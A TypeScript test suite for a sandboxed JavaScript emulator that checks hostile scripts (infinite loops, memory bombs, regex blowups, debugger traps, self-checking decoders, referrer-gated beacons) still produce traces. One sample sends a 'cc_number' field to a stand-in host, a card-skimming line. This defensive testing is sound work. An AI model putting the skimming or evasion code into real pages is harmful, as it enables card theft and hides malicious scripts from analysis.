import assert from 'node:assert/strict';
import fc from 'fast-check';
import { eventsOf, flowsOf, requestsOf, run } from './sandbox-of-tests.ts';
import { createEmulator } from '../../../analyzer/emulator/index.ts';

/** Programs that fight back; each must end in a trace. */
const hostile: Record<string, string> = {
  'an endless loop': 'for (;;);',
  'endless recursion': '(function f() { f() })()',
  'a memory bomb': 'var a = []; for (;;) a.push(new Array(1000).fill(1))',
  'a doubling string': "var s = 'x'; for (;;) s += s",
  'a huge string': "'x'.repeat(1 << 29)",
  'ten thousand timers': 'for (var i = 0; i < 10000; i++) setTimeout(function () { for (;;); }, i)',
  'a catastrophic expression': "/(a+)+$/.exec('a'.repeat(40) + 'b')",
  'nested eval, 200 deep': "var n = 0; function f() { if (n++ < 200) eval('f()') } f()",
  'endless promises': 'Promise.resolve().then(function g() { return Promise.resolve().then(g) })',
  'a proxy that throws':
    'var p = new Proxy({}, { get() { throw 1 }, has() { throw 2 }, getPrototypeOf() { throw 3 } }); fetch(p, p); document.body.appendChild(p)',
  'an error that cannot be read': 'throw { get message() { for (;;); } }',
  'a document that writes itself':
    "document.write('<script>document.write(document.currentScript.outerHTML)<\\/script>')",
  'loops over answers':
    'while (unknownLibrary.next()) ; for (var k in unknownLibrary) k; while (document.body.parentNode) break',
  'no text': '',
  binary: '\u0000\u0001\ud800\uffff',
};

describe('emulator: hostile scripts', () => {
  for (const [name, code] of Object.entries(hostile)) {
    it(`${name} ends in a trace`, async () => {
      const trace = await run(code, { budget: 1_000_000 });
      assert.ok(['completed', 'fuel', 'memory'].includes(trace.outcome), trace.outcome);
      assert.equal(trace.partial, false);
    });
  }

  it('polluted prototypes do not blind the recorder', async () => {
    const flows = await flowsOf(`
      Object.prototype.toJSON = function () { throw 1 }; Array.prototype.push = Array.prototype.map = null;
      Function.prototype.call = Function.prototype.apply = function () { throw 2 }; String.prototype.replace = null; JSON.stringify = null;
      document.createElement.__proto__.constructor = null; Promise = Map = Symbol = null;
      new Image().src = 'https://c.example/' + document.getElementById('cc_number').value;`);
    assert.equal(flows.length, 1);
  });

  it('a loop at the start leaves fuel for what was registered before it', async () => {
    const trace = await run(
      "document.addEventListener('click', function () { fetch('https://c.example/') }); for (;;);",
    );
    assert.equal(trace.outcome, 'fuel');
    assert.equal(requestsOf(trace)[0]?.host, 'c.example');
  });

  it('a decoder that waits for its own text to stand on one line is let through', async () => {
    const trace = await run(`
      var state = function () {
        return 'state';
      };
      var states = [1];
      var isAsWritten = new RegExp('\\\\w+ *\\\\(\\\\) *{\\\\w+ *' + "['|\\"].+['|\\"];? *}").test(state.toString());
      if (!isAsWritten) for (var i = 0; i < states.length; i++) states.push(0);
      fetch('https://c.example/');`);
    assert.equal(trace.outcome, 'completed');
    assert.equal(requestsOf(trace).length, 1);
  });

  it('what takes millions of operations to decode is decoded, and shown to another visitor, too', async () => {
    const trace = await run(`
      for (var n = 0, turns = 0; turns < 3e6; turns++) n ^= turns;
      if (/google/.test(document.referrer)) new Image().src = 'https://c.example/';`);
    assert.equal(trace.outcome, 'completed');
    assert.equal(trace.world, 'search-referrer');
    assert.equal(requestsOf(trace).length, 1);
  });

  it('self-defending traps neither hang nor stop the script', async () => {
    const trace = await run(
      "(function f() { f.toString().search('(((.+)+)+)+$') })(); Function('debugger')(); fetch('https://c.example/')",
    );
    assert.equal(trace.outcome, 'completed');
    assert.equal(requestsOf(trace).length, 1);
  });

  it('the same script gives the same trace, whatever ran between', async () => {
    const script =
      "for (var k in window) k; navigator.sendBeacon('https://c.example/', [Math.random(), Date.now(), performance.now(), new Error().stack].join())";
    const first = await run(script);
    await run('var a = []; for (var i = 0; i < 1e5; i++) a.push({ i })');
    assert.deepEqual(await run(script), first);
  });

  it('random programs always give a trace', async () => {
    const word = fc.constantFrom(
      ...[
        'document',
        'window',
        'eval',
        '(',
        ')',
        '{',
        '}',
        '[',
        ']',
        '.',
        ',',
        ';',
        '=',
        '+',
        'value',
        'location',
        'new ',
        'Proxy',
        'null',
      ],
      ...[
        'this',
        'function',
        '=>',
        'fetch',
        '"x"',
        '1',
        'var a',
        'a',
        '.body',
        '.appendChild',
        'async ',
        'await ',
        'for',
        'while',
        '$',
        'arguments',
      ],
    );
    await fc.assert(
      fc.asyncProperty(fc.array(word, { maxLength: 25 }), async (words) => {
        const trace = await run(words.join(''), { budget: 300_000 });
        assert.ok(Array.isArray(trace.events));
      }),
      { numRuns: 150, seed: 20250513 },
    );
  });
});

describe('emulator: pool', () => {
  it('meets QuickJS’s own stack limit before the thread’s', async () => {
    const emulator = createEmulator({ workers: 1 });
    try {
      const trace = await emulator.emulate(`${'['.repeat(20_000)}${']'.repeat(20_000)}`);
      assert.equal(trace.outcome, 'completed');
      assert.equal(eventsOf(trace, 'error').length, 1);
    } finally {
      await emulator.close();
    }
  });

  it('kills a script that native calls hold, keeps what it showed, and goes on with the next', async () => {
    const emulator = createEmulator({ workers: 1, timeoutMs: 1500 });
    try {
      const slow = emulator.emulate(
        "var t = Date.now, s = 'ab'.repeat(1e6), n = 0; for (var i = 0; i < 3e6; i++) n += i; fetch('https://c.example/'); for (;;) s.indexOf('aa')",
        { budget: 1e12 },
      );
      const next = emulator.emulate("fetch('https://next.example/')");
      const trace = await slow;
      assert.equal(trace.outcome, 'timeout');
      assert.equal(trace.partial, true);
      assert.equal(requestsOf(await next)[0]?.host, 'next.example');
    } finally {
      await emulator.close();
    }
  });
});
